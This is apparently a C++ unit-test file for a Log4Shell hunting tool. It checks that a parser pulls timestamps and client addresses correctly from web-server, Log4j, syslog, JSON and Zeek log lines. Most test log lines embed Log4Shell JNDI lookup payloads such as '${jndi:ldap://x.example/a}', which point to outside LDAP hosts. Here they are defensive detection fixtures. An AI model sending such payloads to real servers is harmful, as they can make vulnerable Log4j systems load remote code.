#include "hunt/log_fields.h"

#include <gtest/gtest.h>

namespace l4s::hunt {
namespace {

TEST(LogFields, ApacheCombinedWithZoneIsConvertedToUtc) {
  LogFields f = parse_log_fields(
      R"(203.0.113.7 - - [10/Dec/2021:12:34:56 +0100] "GET /?q=${jndi:ldap://x.example/a} HTTP/1.1" 200 512 "-" "curl/7.68")");
  EXPECT_EQ(f.source_ip, "203.0.113.7");
  EXPECT_EQ(f.timestamp, "2021-12-10T11:34:56Z");
  EXPECT_EQ(f.timestamp_raw, "10/Dec/2021:12:34:56 +0100");
  EXPECT_EQ(f.forwarded_for, "");
}

TEST(LogFields, NegativeZoneCrossesMidnightAndYear) {
  LogFields f = parse_log_fields(R"(2001:db8::1 - bob [31/Dec/2021:23:30:00 -0130] "GET / HTTP/1.1" 200 1)");
  EXPECT_EQ(f.source_ip, "2001:db8::1");
  EXPECT_EQ(f.timestamp, "2022-01-01T01:00:00Z");
}

TEST(LogFields, NginxTrailingForwardedFor) {
  LogFields f = parse_log_fields(
      R"(10.0.0.5 - - [11/Dec/2021:01:02:03 +0000] "GET / HTTP/1.1" 404 0 "-" "${jndi:ldap://a.example/x}" "198.51.100.9, 10.1.1.1")");
  EXPECT_EQ(f.source_ip, "10.0.0.5");
  EXPECT_EQ(f.forwarded_for, "198.51.100.9, 10.1.1.1");
  EXPECT_EQ(f.timestamp, "2021-12-11T01:02:03Z");
}

TEST(LogFields, ForwardedForHoldingThePayloadIsNotAnAddressList) {
  LogFields f = parse_log_fields(
      R"(10.0.0.5 - - [11/Dec/2021:01:02:03 +0000] "GET / HTTP/1.1" 404 0 "-" "ua" "${jndi:ldap://1.2.3.4/x}")");
  EXPECT_EQ(f.forwarded_for, "");
}

TEST(LogFields, EscapedQuoteInsideUserAgent) {
  LogFields f = parse_log_fields(
      R"(10.0.0.5 - - [11/Dec/2021:01:02:03 +0000] "GET / HTTP/1.1" 200 1 "-" "a\"b" "192.0.2.1")");
  EXPECT_EQ(f.forwarded_for, "192.0.2.1");
}

TEST(LogFields, Log4jDefaultLayouts) {
  LogFields a = parse_log_fields("2021-12-10 12:34:56,789 INFO  [main] App - user ${jndi:ldap://x/a}");
  EXPECT_EQ(a.timestamp, "2021-12-10T12:34:56.789");  // no zone given: local time
  EXPECT_EQ(a.timestamp_raw, "2021-12-10 12:34:56,789");
  EXPECT_EQ(a.source_ip, "");
  LogFields b = parse_log_fields("12:34:56.789 [main] ERROR com.example.App - ${jndi:ldap://x/a}");
  EXPECT_EQ(b.timestamp, "12:34:56.789");  // no year: as logged
  EXPECT_FALSE(is_iso_timestamp(b.timestamp));
  LogFields c = parse_log_fields("[INFO] 2021-12-10T12:34:56.123+02:00 thread=main ${jndi:ldap://x/a}");
  EXPECT_EQ(c.timestamp, "2021-12-10T10:34:56.123Z");
  EXPECT_TRUE(is_iso_timestamp(c.timestamp));
}

TEST(LogFields, TomcatCatalina) {
  LogFields f = parse_log_fields("10-Dec-2021 12:34:56.789 SEVERE [http-nio-8080-exec-1] x ${jndi:ldap://x/a}");
  EXPECT_EQ(f.timestamp, "2021-12-10T12:34:56.789");
}

TEST(LogFields, Syslog) {
  LogFields f = parse_log_fields("Dec 10 12:34:56 web1 app[123]: ${jndi:ldap://x/a}");
  EXPECT_EQ(f.timestamp, "Dec 10 12:34:56");
  LogFields g = parse_log_fields("<34>Dec  9 01:02:03 web1 app: ${jndi:ldap://x/a}");
  EXPECT_EQ(g.timestamp, "Dec  9 01:02:03");
  LogFields h = parse_log_fields("<34>1 2021-12-10T12:34:56.003Z web1 app - - - ${jndi:ldap://x/a}");
  EXPECT_EQ(h.timestamp, "2021-12-10T12:34:56.003Z");
}

TEST(LogFields, DateInsidePayloadIsNotTaken) {
  std::string line(200, 'a');
  line += " 2021-12-10T12:34:56Z ${jndi:ldap://x/a}";
  EXPECT_EQ(parse_log_fields(line).timestamp, "");
  // An address that is not the first field is not the client.
  EXPECT_EQ(parse_log_fields("GET / from 203.0.113.7 [10/Dec/2021:12:34:56 +0000]").source_ip, "");
}

TEST(LogFields, JsonLines) {
  LogFields f = parse_log_fields(
      R"({"@timestamp":"2021-12-12T08:00:01.5Z","client_ip":"198.51.100.23","message":"${jndi:ldap://x/a}","x_forwarded_for":"203.0.113.1"})");
  EXPECT_EQ(f.timestamp, "2021-12-12T08:00:01.5Z");
  EXPECT_EQ(f.source_ip, "198.51.100.23");
  EXPECT_EQ(f.forwarded_for, "203.0.113.1");
  LogFields g = parse_log_fields(R"({"timestamp": 1639296001123, "remote_addr": "2001:db8::7", "msg": "x"})");
  EXPECT_EQ(g.timestamp, "2021-12-12T08:00:01.123Z");
  EXPECT_EQ(g.source_ip, "2001:db8::7");
  LogFields h = parse_log_fields(R"({"ts":1639296001.25,"id.orig_h":"192.0.2.4","uri":"/"})");
  EXPECT_EQ(h.timestamp, "2021-12-12T08:00:01.25Z");
  EXPECT_EQ(h.source_ip, "192.0.2.4");
  // A key that appears as a value is not the key.
  LogFields i = parse_log_fields(R"({"note":"src_ip","src_ip":"192.0.2.5"})");
  EXPECT_EQ(i.source_ip, "192.0.2.5");
  // Not an address: ignored.
  EXPECT_EQ(parse_log_fields(R"({"src_ip":"${jndi:ldap://x/a}"})").source_ip, "");
}

TEST(LogFields, HeaderDumpForwardedFor) {
  LogFields f = parse_log_fields("2021-12-10 01:00:00 headers: Host: a; X-Forwarded-For: 192.0.2.1, 198.51.100.2; UA: x");
  EXPECT_EQ(f.forwarded_for, "192.0.2.1, 198.51.100.2");
}

TEST(LogFields, ZeekColumnsFromHeader) {
  std::string head =
      "#separator \\x09\n#fields\tts\tuid\tid.orig_h\tid.orig_p\n#types\ttime\tstring\taddr\tport\n"
      "1639200000.123456\tCx\t45.137.21.9\t38790\n";
  LogFormatHints hints = sniff_log_format(head);
  EXPECT_EQ(hints.ts_column, 0);
  EXPECT_EQ(hints.source_column, 2);
  LogFields f = parse_log_fields("1639200000.123456\tCx\t45.137.21.9\t38790\t${jndi:ldap://x/a}", hints);
  EXPECT_EQ(f.timestamp, "2021-12-11T05:20:00.123456Z");
  EXPECT_EQ(f.source_ip, "45.137.21.9");
  LogFields masked = parse_log_fields("XXXXXXXXXX.XXXXXX\tCx\t45.137.21.9\t38790", hints);
  EXPECT_EQ(masked.timestamp, "");
  EXPECT_EQ(masked.source_ip, "45.137.21.9");
  EXPECT_EQ(sniff_log_format("plain line\n#fields\tts\n").ts_column, -1);
}

TEST(LogFields, NothingRecognised) {
  LogFields f = parse_log_fields("${jndi:ldap://x/a}");
  EXPECT_EQ(f.timestamp, "");
  EXPECT_EQ(f.source_ip, "");
  EXPECT_EQ(f.forwarded_for, "");
  EXPECT_EQ(parse_log_fields("99:99:99 nope").timestamp, "");
  EXPECT_EQ(parse_log_fields("2021-13-40 12:00:00 bad date").timestamp, "");
}

TEST(IpAddress, Forms) {
  EXPECT_TRUE(is_ip_address("1.2.3.4"));
  EXPECT_TRUE(is_ip_address("::1"));
  EXPECT_FALSE(is_ip_address("1.2.3"));
  EXPECT_FALSE(is_ip_address("256.1.1.1"));
  EXPECT_FALSE(is_ip_address("host.example"));
  EXPECT_FALSE(is_ip_address(""));
}

}  // namespace
}  // namespace l4s::hunt
